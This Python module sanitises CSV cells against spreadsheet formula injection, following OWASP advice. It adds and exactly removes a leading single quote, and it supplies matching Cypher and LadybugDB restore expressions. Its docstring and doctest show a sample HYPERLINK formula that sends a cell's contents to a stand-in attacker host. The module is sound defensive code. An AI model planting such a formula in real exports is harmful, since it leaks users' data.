"""CSV cells a spreadsheet cannot run (OWASP's CSV-injection advice), read back exactly.

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula
(``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` in an alias, say).
OWASP's remedy is a leading single quote, which makes the cell text. So a text
cell that begins with one of those characters, after any single quotes, is
written with one more ``'`` in front; every other cell is written as it is.
The rule is undone exactly by dropping one ``'`` from a cell that begins with
one or more ``'`` and then one of those characters (a cell such as ``'Tis``
is never changed, so it never loses its quote): the Cypher and LadybugDB
scripts do that for every column that holds such a cell.

Only text columns are touched: numbers (``-3.5`` in a ``:float`` column)
stay numbers, and ids are slugs, which never begin with those characters.

>>> neutralise('=HYPERLINK("http://evil.example/")'), neutralise("-1"), neutralise("'Tis"), neutralise("''+1")
('\\'=HYPERLINK("http://evil.example/")', "'-1", "'Tis", "'''+1")
>>> restore(neutralise("''+1")), restore("'Tis")
("''+1", "'Tis")
"""

from __future__ import annotations

import re

TRIGGERS = "=+@\t\r-"  # the first characters a spreadsheet takes for a formula ('-' last: a regex class)
_NEUTRALISE = re.compile(f"'*[{re.escape(TRIGGERS)}]")
_RESTORE = re.compile(f"'+[{re.escape(TRIGGERS)}]")
PATTERN = f"'+[{TRIGGERS}]"  # a neutralised cell's start, for the scripts' regular expressions


def needs_quote(text: str) -> bool:
    """Whether a spreadsheet would run ``text`` (or it begins with quotes before such a character)."""
    return bool(_NEUTRALISE.match(text))


def neutralise(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet runs: one more leading ``'`` if :func:`needs_quote`."""
    return "'" + text if needs_quote(text) else text


def restore(cell: str) -> str:
    """The text :func:`neutralise` was given for ``cell``."""
    return cell[1:] if _RESTORE.match(cell) else cell


def cypher_restore(field: str, quote) -> str:
    """A Neo4j Cypher expression for :func:`restore` of ``field`` (``quote`` makes a string literal)."""
    return f"CASE WHEN {field} =~ {quote('(?s)' + PATTERN + '.*')} THEN substring({field}, 1) ELSE {field} END"


def ladybug_restore(field: str, quote) -> str:
    """A LadybugDB expression for :func:`restore` of ``field``."""
    return (f"CASE WHEN regexp_matches({field}, {quote('^' + PATTERN)}) "
            f"THEN substring({field}, 2, size({field})) ELSE {field} END")
